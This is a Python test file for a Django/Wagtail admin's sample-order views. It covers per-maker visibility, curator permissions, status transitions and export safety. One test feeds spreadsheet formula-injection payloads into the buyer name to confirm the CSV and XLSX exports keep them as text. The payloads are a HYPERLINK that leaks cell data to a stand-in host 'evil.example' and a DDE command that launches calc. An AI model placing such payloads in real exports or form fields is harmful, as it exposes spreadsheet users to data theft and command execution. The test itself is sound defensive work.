"""Sample orders in the admin: curators see all; a maker sees only orders, lines and amounts of its own."""

import csv
import io

import pytest
from openpyxl import load_workbook

from django.contrib.auth.models import Group, Permission
from django.core import mail

from wagtail.models import GroupPagePermission

from orders.models import OrderLine, OrderStatus, SampleOrder


def make_order(*lines, status=OrderStatus.PAID, name="Mia Tan"):
    order = SampleOrder.objects.create(
        name=name,
        email="mia@example.sg",
        address_line1="1 Example Road",
        city="Singapore",
        country="SG",
        status=status,
        subtotal=sum(p.sample_price * q for p, q in lines),
        shipping=1200,
        total=sum(p.sample_price * q for p, q in lines) + 1200,
    )
    for product, quantity in lines:
        OrderLine.objects.create(
            order=order,
            product=product,
            vendor=product.vendor,
            vendor_translation_key=product.vendor.translation_key,
            product_name=product.title,
            vendor_name=product.vendor.title,
            unit_price=product.sample_price,
            quantity=quantity,
            line_total=product.sample_price * quantity,
        )
    return order


def maker_user(django_user_model, vendor, username):
    group = Group.objects.create(name=f"Maker {username}")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    GroupPagePermission.objects.create(
        group=group, page=vendor, permission=Permission.objects.get(codename="change_page")
    )
    user = django_user_model.objects.create_user(username=username, password="pw-12345-xyz")
    user.groups.add(group)
    return user


@pytest.fixture
def admin_setup(two_makers, django_user_model):
    kabut, renyah = two_makers["kabut"], two_makers["renyah"]
    return {
        "mixed": make_order((two_makers["burner"], 2), (two_makers["chips"], 3), name="Mixed Buyer"),
        "only_renyah": make_order((two_makers["chips"], 1), name="Renyah Only Buyer"),
        "kabut_user": maker_user(django_user_model, kabut, "kabut"),
        "renyah_user": maker_user(django_user_model, renyah, "renyah"),
        "curator": django_user_model.objects.create_superuser("curator", "c@example.com", "pw-12345-xyz"),
    }


def test_maker_sees_only_orders_with_its_samples(client, admin_setup):
    client.force_login(admin_setup["kabut_user"])
    response = client.get("/admin/sample_orders/")
    html = response.content.decode()
    assert response.status_code == 200
    assert admin_setup["mixed"].reference in html
    assert admin_setup["only_renyah"].reference not in html
    assert "US$30.00" in html  # Kabut's own lines (2 × 15.00), not the order total
    assert "US$66.00" not in html


def test_maker_inspect_shows_only_its_lines(client, admin_setup):
    client.force_login(admin_setup["kabut_user"])
    response = client.get(f"/admin/sample_orders/inspect/{admin_setup['mixed'].pk}/")
    html = response.content.decode()
    assert response.status_code == 200
    assert "Porcelain aroma burner" in html
    assert "Sanan tempe chips" not in html and "Renyah Kedelai Purwa" not in html
    assert "US$30.00" in html
    assert "US$66.00" not in html and "US$24.00" not in html


def test_other_makers_order_is_404(client, admin_setup):
    client.force_login(admin_setup["kabut_user"])
    pk = admin_setup["only_renyah"].pk
    # LocaleMiddleware turns an admin 404 into a redirect to the same path under /en/, itself a 404.
    for response in (
        client.get(f"/admin/sample_orders/inspect/{pk}/", follow=True),
        client.get(f"/admin/sample_orders/edit/{pk}/", follow=True),
        client.post(f"/admin/sample_orders/edit/{pk}/", {"status": "shipped"}, follow=True),
    ):
        assert response.status_code == 404
        assert "Renyah Only Buyer" not in response.content.decode()
    assert SampleOrder.objects.get(pk=pk).status == OrderStatus.PAID


def test_export_holds_only_the_makers_orders(client, admin_setup):
    client.force_login(admin_setup["kabut_user"])
    response = client.get("/admin/sample_orders/?export=csv")
    body = b"".join(response.streaming_content).decode()
    assert response.status_code == 200
    assert admin_setup["mixed"].reference in body
    assert admin_setup["only_renyah"].reference not in body
    assert "30.00" in body and "66.00" not in body


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.example/?leak="&C2,"Mia")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)"]
)
def test_export_keeps_a_formula_in_a_buyers_name_as_text(client, admin_setup, two_makers, name):
    order = make_order((two_makers["burner"], 1), name=name)
    SampleOrder.objects.filter(pk=order.pk).update(company=name)
    client.force_login(admin_setup["curator"])

    response = client.get("/admin/sample_orders/", {"export": "csv"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(row for row in rows if row["Reference"] == order.reference)
    assert row["Buyer"] == "'" + name and row["Company"] == "'" + name

    xlsx = client.get("/admin/sample_orders/", {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value == name]
    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}  # text, never a formula


def test_curator_sees_everything(client, admin_setup):
    client.force_login(admin_setup["curator"])
    html = client.get("/admin/sample_orders/").content.decode()
    assert admin_setup["mixed"].reference in html and admin_setup["only_renyah"].reference in html
    inspect = client.get(f"/admin/sample_orders/inspect/{admin_setup['mixed'].pk}/").content.decode()
    assert "Porcelain aroma burner" in inspect and "Sanan tempe chips" in inspect and "US$66.00" in inspect
    body = b"".join(client.get("/admin/sample_orders/?export=csv").streaming_content).decode()
    assert admin_setup["only_renyah"].reference in body


def test_maker_can_ship_but_not_cancel(client, admin_setup, two_makers):
    client.force_login(admin_setup["kabut_user"])
    pk = make_order((two_makers["burner"], 2), name="Kabut Only Buyer").pk
    inspect = client.get(f"/admin/sample_orders/inspect/{pk}/").content.decode()
    assert 'value="shipped"' in inspect and 'value="cancelled"' not in inspect
    client.post(f"/admin/sample_orders/edit/{pk}/", {"status": "cancelled"})
    assert SampleOrder.objects.get(pk=pk).status == OrderStatus.PAID
    client.post(
        f"/admin/sample_orders/edit/{pk}/", {"status": "shipped", "carrier": "JNE", "tracking_number": "X1"}
    )
    assert SampleOrder.objects.get(pk=pk).status == OrderStatus.SHIPPED
    client.post(f"/admin/sample_orders/edit/{pk}/", {"status": "paid"})
    assert SampleOrder.objects.get(pk=pk).status == OrderStatus.SHIPPED


def test_maker_cannot_move_an_order_shared_with_another_maker(client, admin_setup):
    client.force_login(admin_setup["kabut_user"])
    pk = admin_setup["mixed"].pk
    inspect = client.get(f"/admin/sample_orders/inspect/{pk}/").content.decode()
    assert 'value="shipped"' not in inspect
    response = client.post(
        f"/admin/sample_orders/edit/{pk}/",
        {"status": "shipped", "carrier": "JNE", "tracking_number": "X1"},
        follow=True,
    )
    assert response.status_code == 404
    assert SampleOrder.objects.get(pk=pk).status == OrderStatus.PAID


def test_curator_can_refund_and_mark_invoice_paid(client, admin_setup, django_capture_on_commit_callbacks):
    client.force_login(admin_setup["curator"])
    client.post(f"/admin/sample_orders/edit/{admin_setup['mixed'].pk}/", {"status": "refunded"})
    assert SampleOrder.objects.get(pk=admin_setup["mixed"].pk).status == OrderStatus.REFUNDED
    SampleOrder.objects.filter(pk=admin_setup["only_renyah"].pk).update(status=OrderStatus.AWAITING_INVOICE)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/admin/sample_orders/edit/{admin_setup['only_renyah'].pk}/", {"status": "paid"})
    order = SampleOrder.objects.get(pk=admin_setup["only_renyah"].pk)
    assert order.status == OrderStatus.PAID and order.paid_at
    assert sorted(m.to[0] for m in mail.outbox) == ["mia@example.sg", "renyah@example.com"]


def test_nobody_adds_or_deletes_orders(client, admin_setup):
    client.force_login(admin_setup["curator"])
    assert client.get("/admin/sample_orders/new/").status_code in (302, 403)
    assert client.get(f"/admin/sample_orders/delete/{admin_setup['mixed'].pk}/").status_code in (302, 403)
    assert SampleOrder.objects.count() == 2


def test_menu_shows_sample_orders_to_makers(client, admin_setup):
    client.force_login(admin_setup["renyah_user"])
    html = client.get("/admin/").content.decode()
    assert "/admin/sample_orders/" in html
